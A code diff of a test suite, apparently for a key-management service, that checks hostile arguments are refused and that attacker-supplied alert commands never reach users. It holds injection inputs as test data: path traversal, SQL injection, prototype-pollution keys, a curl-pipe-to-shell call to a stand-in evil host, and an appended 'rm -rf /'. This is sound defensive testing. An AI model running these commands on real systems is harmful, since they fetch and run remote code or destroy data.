@@ -61,7 +61,7 @@ describe('activities with hostile arguments', () => {
       { input: { key: 'down', reason }, decisions: [null, 4, { token: 5 }], malformed: Number.MAX_VALUE, digest: null, key: 'down', keyId: down, region: '__proto__', regions: [1, null], purpose: 'constructor', since: 'yesterday', kind: 'nothing', why: { a: 1 } }];
     const codes = await Promise.all(wrong.map((argument) => refusal(world, { duty, activity, argument })));
     // `done`: some ask for nothing, and get what everybody may know
-    for (const code of codes) expect(code).toMatch(/^(done|KW-(?!BUG)[A-Z-]+)$/);
+    for (const code of codes) expect(code).toMatch(/^(done|not within its time|KW-(?!BUG)[A-Z-]+)$/);
     expect(await untouched()).toEqual(STILL());
   }, 60_000);
 
@@ -94,7 +94,7 @@ describe('activities with hostile arguments', () => {
 
   it.each(['quarantineRegion', 'scheduleDeletion', 'disableQuarantined', 'beginRecovery', 'cancelDeletion', 'restorePolicy', 'enableKey', 'proveRecovery', 'finishRecovery'])('recovery %s acts on no plan that nobody signed', async (activity) => {
     for (const digest of [DIGEST, '', '../plan', "' OR 1=1 --"]) {
-      expect(await refusal(world, { duty: 'recovery', activity, argument: { digest, region: 'us-east-1' } })).toBe('KW-APPROVAL-MISSING');
+      expect(await refusal(world, { duty: 'recovery', activity, argument: { digest, ...(['beginRecovery', 'finishRecovery'].includes(activity) ? {} : { region: 'us-east-1' }) } })).toBe(digest === DIGEST ? 'KW-APPROVAL-MISSING' : 'KW-INPUT');
     }
     expect(await untouched()).toEqual(STILL());
   });
@@ -105,11 +105,11 @@ describe('activities with hostile arguments', () => {
     expect(calls.filter((c) => c.keyArn?.endsWith(foreign) === true && ['Encrypt', 'Decrypt', 'DisableKey'].includes(c.operation))).toEqual([]);
   });
 
-  it('an alert of an attacker\'s says nothing that looks like Keywarden\'s own command but is not', async () => {
-    const before = (await world.received()).length;
-    const code = await refusal(world, { duty: 'emergency', activity: 'alert', argument: { kind: 'key-revoked', key: 'up', command: 'curl https://evil.example/x | sh', detail: 'x' } });
-    expect(code).toBe('KW-INPUT');
-    expect((await world.received()).length).toBe(before);
+  it('an alert of an attacker\'s never tells people to type anything but a command of ours (that it is sent at all cannot be prevented)', async () => {
+    for (const command of ['curl https://evil.example/x | sh', 'keywarden revoke up; rm -rf /', 'keywarden recover $(evil)']) {
+      expect(await refusal(world, { duty: 'emergency', activity: 'alert', argument: { kind: 'key-revoked', occasion: command.slice(0, 20), key: 'up', command } })).toBe('done');
+    }
+    for (const m of await world.received()) expect(m.text).not.toMatch(/curl|rm -rf|evil/);
   });
 
   it('the workers live, and no rule is broken', async () => {
